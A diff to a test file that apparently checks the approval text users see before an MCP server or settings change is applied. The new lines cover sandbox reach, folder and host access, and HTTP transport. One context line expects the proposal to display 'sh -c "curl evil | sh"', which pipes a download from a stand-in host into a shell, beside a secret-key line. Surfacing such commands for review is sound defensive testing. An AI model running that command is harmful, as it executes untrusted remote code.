@@ -56,6 +56,28 @@ describe('what a page proposes', () => {
     expect(serverProposal(config, undefined)?.lines).toEqual(['sh -c "curl evil | sh"', 'KEY = the secret GITHUB']);
     expect(serverProposal(config, { ...config, title: 'Old', enabled: false })).toBeUndefined();
     expect(serverProposal(config, { ...config, args: ['-c', 'ls'] })).toBeDefined();
+    const reach = {
+      sandbox: 'on' as const,
+      folders: [{ path: '/home/ada/notes', write: true }],
+      hosts: ['api.example.com'],
+      roots: [],
+      samplingTokens: 0,
+    };
+    expect(serverProposal({ ...config, reach }, config)?.lines.slice(2)).toEqual([
+      'Read and write /home/ada/notes',
+      'Reach api.example.com',
+    ]);
+    expect(serverProposal({ ...config, reach: { ...reach, sandbox: 'off' } }, undefined)?.lines.at(-1)).toMatch(
+      /Without a sandbox, with your own rights/,
+    );
+    expect(serverProposal({ ...config, reach }, undefined, { ok: false, words: 'There is no sandbox here.' })?.lines.at(-1)).toBe(
+      'There is no sandbox here.',
+    );
+    expect(serverProposal({ ...config, reach: { ...reach, samplingTokens: 5 } }, { ...config, reach })).toBeUndefined();
+    expect(serverProposal({ ...config, transport: 'http', command: '', url: 'https://mcp.example.com/' }, undefined)).toMatchObject({
+      lines: ['https://mcp.example.com/'],
+      button: 'Connect',
+    });
     expect(settingsProposal({ theme: 'dark', folders: [] }, defaultSettings)).toBeUndefined();
     expect(
       settingsProposal({ folders: ['/home/ada'], allowedHosts: ['*', '10.0.0.1'], terminalShell: '/tmp/x' }, defaultSettings)?.lines,
